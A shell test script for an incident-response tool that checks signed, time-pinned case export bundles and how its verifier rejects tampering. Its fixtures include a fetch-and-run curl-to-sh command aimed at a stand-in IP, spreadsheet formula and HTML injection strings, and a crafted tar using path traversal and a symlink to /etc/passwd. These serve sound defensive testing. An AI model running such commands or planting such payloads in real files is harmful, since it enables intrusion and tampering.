#!/bin/sh
# export and verify: a case as of T in a deterministic archive that
# standard tools check (tar, sha256sum -c, ssh-keygen -Y verify) with
# firebreak off the PATH; custody and audit chains recomputed with jq and
# sha256sum; state as of T; every tamper case caught by verify with a
# precise message; redaction of each kind, counted independently.
. "$FB_SRCDIR/tests/lib.sh"
require_prog jq
require_prog python3
require_prog ssh-keygen
require_prog zstd
require_prog unzip

fb -w "$WS" init >/dev/null
fbw() { fb -w "$WS" "$@"; }
# The tools an auditor has: no firebreak on this PATH.
plain() { env PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin "$@"; }

cat >f.jsonl <<'EOF'
{"source":"falco","kind":"runtime","rule_id":"shell-in-container","title":"Shell in vllm-7f9 <b>bold</b>","severity":"critical","event_time":"2026-11-26T02:41:00Z","assets":[{"type":"host","value":"gpu-07"}]}
{"source":"falco","kind":"runtime","rule_id":"outbound","title":"=HYPERLINK(\"http://evil\")","severity":"high","event_time":"2026-11-26T02:42:00Z","assets":[{"type":"host","value":"gpu-07"}]}
EOF
fbw ingest f.jsonl >/dev/null
fbw case new "gpu-07 compromise" --from 1 2 --reason "same host" >/dev/null
printf 'USER PID COMMAND\nvllm 4790 /bin/sh -c curl http://203.0.113.7/x | sh\n' >ps.txt
head -c 300000 /dev/urandom >core.bin
touch -d 2026-11-26T02:44:00Z ps.txt
fbw evidence add --case 1 --note "ps on gpu-07" ps.txt core.bin >/dev/null
fbw case note 1 "=cmd|' /C calc'!A0" >/dev/null
sleep 1
T=$(date -u +%Y-%m-%dT%H:%M:%SZ)
sleep 1
# After T: none of this may appear in a bundle as of T.
echo "late" >late.txt
fbw evidence add --case 1 late.txt >/dev/null
fbw case note 1 "written after T" >/dev/null
fbw case status 1 contained --reason "after T" >/dev/null
# A status change after T: the bundle shows the status at T.
fbw finding fp 2 --reason "decided after T" >/dev/null

ssh-keygen -q -t ed25519 -N "" -C "responder@example.org" -f key
echo "responder@example.org namespaces=\"firebreak-evidence\" $(cut -d" " -f1,2 key.pub)" >allowed
ssh-keygen -q -t ed25519 -N "" -f other
echo "mallory $(cut -d" " -f1,2 other.pub)" >allowed-other

test_expect_success 'export writes a signed bundle' '
	fbw export 1 -o b.tar.gz --as-of "$T" --sign key >out &&
	expect_grep "2 evidence items, 2 findings, signed" out && [ -s b.tar.gz ]
'

test_expect_success 'with firebreak off the PATH: tar -x, sha256sum -c, ssh-keygen -Y verify' '
	mkdir x && plain tar -xzf b.tar.gz -C x &&
	(cd x && plain sha256sum -c --strict SHA256SUMS >../sums.out) &&
	expect_eq "$(grep -c ": OK$" sums.out)" "$(($(find x -type f | wc -l) - 2))" &&
	(cd x && plain ssh-keygen -Y verify -f ../allowed -I responder@example.org \
		-n firebreak-evidence -s SHA256SUMS.sig <SHA256SUMS)
'

test_expect_success 'SHA256SUMS lists every file but itself and its signature' '
	(cd x && find . -type f | sed "s|^\./||" | grep -v "^SHA256SUMS" | sort) >files &&
	awk "{print \$2}" x/SHA256SUMS >listed && expect_eq "$(cat listed)" "$(cat files)"
'

test_expect_success 'the evidence is byte for byte the original, and the manifest says so' '
	cmp x/evidence/000001-ps.txt ps.txt && cmp x/evidence/000002-core.bin core.bin &&
	expect_eq "$(jq -r ".items[0].sha256" x/manifest.json)" "$(sha256sum <ps.txt | cut -c1-64)" &&
	expect_eq "$(jq -r ".items[1].size" x/manifest.json)" "$(wc -c <core.bin | tr -d " ")" &&
	expect_eq "$(jq -r ".items[0] | [.source_host, .collector, .original_path, .original_mtime, .note] | join(\"|\")" x/manifest.json)" \
		"$(hostname)|evidence add|$PWD/ps.txt|2026-11-26T02:44:00Z|ps on gpu-07" &&
	expect_eq "$(jq -r ".as_of, .case.id, (.items | length), .tool.name" x/manifest.json | tr "\n" " ")" "$T 1 2 firebreak "
'

test_expect_success 'the bundle shows the case as of T, not what came later' '
	expect_eq "$(jq -r .case.status x/manifest.json)" open &&
	! grep -r "written after T" x && ! grep -rq "late.txt" x &&
	expect_eq "$(jq -r ".items[].path" x/manifest.json | wc -l)" 2 &&
	expect_eq "$(wc -l <x/findings.jsonl)" 2 &&
	expect_eq "$(jq -r "select(.id==2) | .status" x/findings.jsonl)" open &&
	! grep -q "decided after T" x/findings.jsonl &&
	grep "=HYPERLINK" x/report.md | grep -q "open" && ! grep -q false_positive x/report.md
'

test_expect_success 'a bundle as of now shows the status decided after T' '
	fbw export 1 -o now.tar.gz >/dev/null && mkdir xn && tar -xzf now.tar.gz -C xn &&
	expect_eq "$(jq -r "select(.id==2) | .status + \" \" + .status_reason" xn/findings.jsonl)" \
		"false_positive decided after T"
'

test_expect_success 'custody chains recompute with jq -cS and sha256sum; the export is the last event, at T' '
	n=$(wc -l <x/custody.jsonl) && i=1 &&
	while [ $i -le $n ]; do
		line=$(sed -n "${i}p" x/custody.jsonl) &&
		h=$(printf "%s" "$line" | jq -cS "del(.hash)" | tr -d "\n" | sha256sum | cut -c1-64) &&
		expect_eq "$(printf "%s" "$line" | jq -r .hash)" "$h" || return 1
		i=$((i + 1))
	done &&
	for ev in 1 2; do
		jq -c "select(.evidence == $ev)" x/custody.jsonl >c.$ev &&
		expect_eq "$(head -n 1 c.$ev | jq -r .prev_hash)" 0000000000000000000000000000000000000000000000000000000000000000 &&
		expect_eq "$(tail -n 1 c.$ev | jq -r ".action, .time" | tr "\n" " ")" "exported $T " &&
		expect_eq "$(tail -n 1 c.$ev | jq -r .prev_hash)" "$(tail -n 2 c.$ev | head -n 1 | jq -r .hash)" || return 1
	done
'

test_expect_success 'audit.jsonl: full rows recompute, stubs link, the head is the manifest'"'"'s' '
	prev= && while read -r line; do
		h=$(printf "%s" "$line" | jq -r .hash) &&
		if [ "$(printf "%s" "$line" | jq -r ".stub // false")" != true ]; then
			expect_eq "$(printf "%s" "$line" | jq -cS "del(.hash)" | tr -d "\n" | sha256sum | cut -c1-64)" "$h" || return 1
		fi
		if [ -n "$prev" ]; then
			expect_eq "$(printf "%s" "$line" | jq -r .prev_hash)" "$prev" || return 1
		fi
		prev=$h
	done <x/audit.jsonl &&
	expect_eq "$prev" "$(jq -r .audit_head.hash x/manifest.json)" &&
	grep -q "\"object\":\"case:1\"" x/audit.jsonl &&
	expect_eq "$(fbw audit ls --json | jq -r "select(.seq == $(jq .audit_head.seq x/manifest.json)) | .hash")" "$prev"
'

test_expect_success 'timeline.csv is formula-safe (read back with Python csv)' '
	python3 -c "
import csv, sys
rows = list(csv.DictReader(open(\"x/timeline.csv\", newline=\"\")))
notes = [r[\"text\"] for r in rows if r[\"kind\"] == \"note\"]
assert notes == [\"'\''=cmd|'\'' /C calc'\''!A0\"], notes
for r in rows:
    for v in r.values():
        assert not v or v[0] not in \"=+-@\", v
"
'

test_expect_success 'the reports escape every value and allow nothing external' '
	grep -q "Shell in vllm-7f9 &lt;b&gt;bold&lt;/b&gt;" x/report.html &&
	! grep -q "<b>bold" x/report.html &&
	grep -q "Content-Security-Policy\" content=\"default-src '"'"'none'"'"'" x/report.html &&
	! grep -qi "<script\|src=\|href=\|@import\|url(" x/report.html &&
	grep -q "Shell in vllm\\\\-7f9 \\\\<b\\\\>bold\\\\</b\\\\>" x/report.md
'

for fmt in tar.gz tar.zst zip; do
	test_expect_success "two exports at the same T are byte-identical ($fmt)" "
		fbw export 1 -o one.$fmt --as-of $T --sign key >/dev/null &&
		sleep 1 &&
		fbw export 1 -o two.$fmt --as-of $T --sign key >/dev/null &&
		cmp one.$fmt two.$fmt
	"
done

test_expect_success 'gzip without its timestamp; zip and zstd extract with the standard tools' '
	expect_eq "$(od -A n -t x1 -j 4 -N 4 one.tar.gz | tr -d " ")" 00000000 &&
	mkdir z s && plain unzip -q one.zip -d z && (cd z && plain sha256sum -c --quiet SHA256SUMS) &&
	plain tar --zstd -xf one.tar.zst -C s && (cd s && plain sha256sum -c --quiet SHA256SUMS)
'

test_expect_success 'verify: an intact bundle, trusted only by the auditor'"'"'s allowed signers' '
	fbw verify b.tar.gz >v1 && expect_grep "valid signature, signer not trusted" v1 &&
	fb verify b.tar.gz --allowed-signers allowed >v2 &&
	expect_grep "signed by responder@example.org" v2 &&
	fb verify one.zip --allowed-signers allowed >v3 && fb verify one.tar.zst >v4
'

test_expect_code 1 'verify: a signer the auditor does not trust' '
	fb verify b.tar.gz --allowed-signers allowed-other >out; rc=$?
	expect_grep "signer is not trusted" out && return $rc
'

# Tampering: re-pack an extracted bundle with Python's tarfile.
cat >pack.py <<'EOF'
import os, sys, tarfile
src, out = sys.argv[1], sys.argv[2]
names = []
for d, _, files in os.walk(src):
    for f in files:
        names.append(os.path.relpath(os.path.join(d, f), src))
with tarfile.open(out, "w:gz") as t:
    for n in sorted(names):
        t.add(os.path.join(src, n), arcname=n, recursive=False)
EOF
tamper() { rm -rf t && cp -r x t; }
pack() { python3 pack.py t "$1"; }
resum() { (cd t && find . -type f ! -name "SHA256SUMS*" | sed "s|^\./||" | sort | xargs sha256sum >SHA256SUMS); }
# check FILE PATTERN: verify exits 1 and says PATTERN
check() { fb verify "$1" >out; rc=$?; cat out; expect_grep "$2" out && return $rc; }

test_expect_code 1 'tamper: a flipped byte in evidence' '
	tamper && python3 -c "
p = \"t/evidence/000002-core.bin\"; b = bytearray(open(p, \"rb\").read()); b[1000] ^= 1
open(p, \"wb\").write(b)" && pack flip.tar.gz &&
	check flip.tar.gz "^FAIL: evidence/000002-core.bin: SHA-256 does not match SHA256SUMS"
'

test_expect_code 1 'tamper: a removed file' '
	tamper && rm t/evidence/000001-ps.txt && pack rm.tar.gz &&
	check rm.tar.gz "evidence/000001-ps.txt: listed in SHA256SUMS but missing from the bundle" &&
	expect_grep "evidence/000001-ps.txt: in manifest.json but missing" out
'

test_expect_code 1 'tamper: an edited custody line (SHA256SUMS recomputed to match)' '
	tamper && sed -i "1s/\"holder\":\"[^\"]*\"/\"holder\":\"nobody\"/" t/custody.jsonl &&
	resum && rm t/SHA256SUMS.sig && jq ".signed = false" x/manifest.json >t/manifest.json && resum &&
	pack cust.tar.gz &&
	check cust.tar.gz "custody.jsonl line 1 (evidence 1): hash does not match the entry.s contents"
'

test_expect_code 1 'tamper: reordered audit lines (SHA256SUMS recomputed to match)' '
	tamper && n=$(wc -l <t/audit.jsonl) && [ "$n" -ge 3 ] &&
	{ sed -n 1p x/audit.jsonl; sed -n 3p x/audit.jsonl; sed -n 2p x/audit.jsonl; sed -n "4,\$p" x/audit.jsonl; } >t/audit.jsonl &&
	rm t/SHA256SUMS.sig && jq ".signed = false" x/manifest.json >t/manifest.json && resum &&
	pack audit.tar.gz &&
	check audit.tar.gz "audit.jsonl line 2: seq [0-9]* follows seq [0-9]* (entries reordered" &&
	expect_grep "audit.jsonl line 2 (seq [0-9]*): prev_hash does not match" out
'

test_expect_code 1 'tamper: a swapped signature' '
	fbw export 1 -o other.tar.gz --as-of "$T" --redact --sign key >/dev/null &&
	mkdir o && tar -xzf other.tar.gz -C o &&
	tamper && cp o/SHA256SUMS.sig t/SHA256SUMS.sig && pack sig.tar.gz &&
	check sig.tar.gz "SHA256SUMS.sig: the signature does not verify for SHA256SUMS"
'

test_expect_code 1 'tamper: an extra file' '
	tamper && echo "planted" >t/evidence/000009-planted.txt && pack extra.tar.gz &&
	check extra.tar.gz "evidence/000009-planted.txt: extra file, not listed in SHA256SUMS" &&
	expect_grep "evidence/000009-planted.txt: evidence file not in manifest.json" out
'

test_expect_code 1 'a crafted archive: ../ names, absolute paths, links, duplicates' '
	python3 -c "
import io, tarfile
def add(t, name, data=b\"x\", **kw):
    i = tarfile.TarInfo(name); i.size = len(data)
    for k, v in kw.items(): setattr(i, k, v)
    t.addfile(i, io.BytesIO(data) if i.isreg() else None)
with tarfile.open(\"evil.tar.gz\", \"w:gz\") as t:
    for n in sorted(__import__(\"os\").listdir(\"x\")):
        if n != \"evidence\": t.add(\"x/\" + n, arcname=n)
    add(t, \"../evil\")
    add(t, \"evidence/../../evil2\")
    add(t, \"/etc/evil3\")
    add(t, \"evidence/link\", b\"\", type=tarfile.SYMTYPE, linkname=\"/etc/passwd\")
    add(t, \"evidence/hard\", b\"\", type=tarfile.LNKTYPE, linkname=\"manifest.json\")
    add(t, \"evidence/fifo\", b\"\", type=tarfile.FIFOTYPE)
    add(t, \"manifest.json\", b\"{}\")
" &&
	check evil.tar.gz "^FAIL: unsafe entry .\.\./evil.: .\.\.. in path" &&
	expect_grep "unsafe entry .evidence/\.\./\.\./evil2.: .\.\.. in path" out &&
	expect_grep "unsafe entry ./etc/evil3.: absolute path" out &&
	expect_grep "unsafe entry .evidence/link.: a link" out &&
	expect_grep "unsafe entry .evidence/hard.: a link" out &&
	expect_grep "unsafe entry .evidence/fifo.: not a regular file" out &&
	expect_grep "duplicate entry .manifest.json." out
'

test_expect_code 1 'tamper: SHA256SUMS naming a file outside the bundle' '
	tamper && printf "%s  ../../etc/passwd\n" "$(sha256sum </etc/passwd | cut -c1-64)" >>t/SHA256SUMS &&
	rm t/SHA256SUMS.sig && jq ".signed = false" x/manifest.json >t/manifest.json && pack out.tar.gz &&
	check out.tar.gz "SHA256SUMS line [0-9]*: unsafe name .\.\./\.\./etc/passwd.: .\.\.. in path"
'

test_expect_code 2 'export refuses a T in the future and an unknown format' '
	fbw export 1 -o f.tar.gz --as-of 2999-01-01T00:00:00Z; [ $? -eq 2 ] &&
	fbw export 1 -o f.rar
'

test_expect_success 'SOURCE_DATE_EPOCH is the default T' '
	epoch=$(date -u -d "$T" +%s) &&
	SOURCE_DATE_EPOCH=$epoch fbw export 1 -o sde.tar.gz >/dev/null &&
	fbw export 1 -o t.tar.gz --as-of "$T" >/dev/null && cmp sde.tar.gz t.tar.gz
'

test_expect_success 'export is a custody hand-off and one audit row in the workspace' '
	expect_eq "$(fbw evidence show 1 --json | jq -r "[.custody[] | select(.action == \"exported\")] | length")" \
		"$(fbw audit ls --json | jq -r "select(.action == \"case.export\") | .seq" | wc -l)" &&
	fbw audit ls --json | jq -e "select(.action == \"case.export\") | .detail | fromjson | .sha256" >/dev/null &&
	fbw audit verify >/dev/null && fbw evidence check >/dev/null
'
test_done
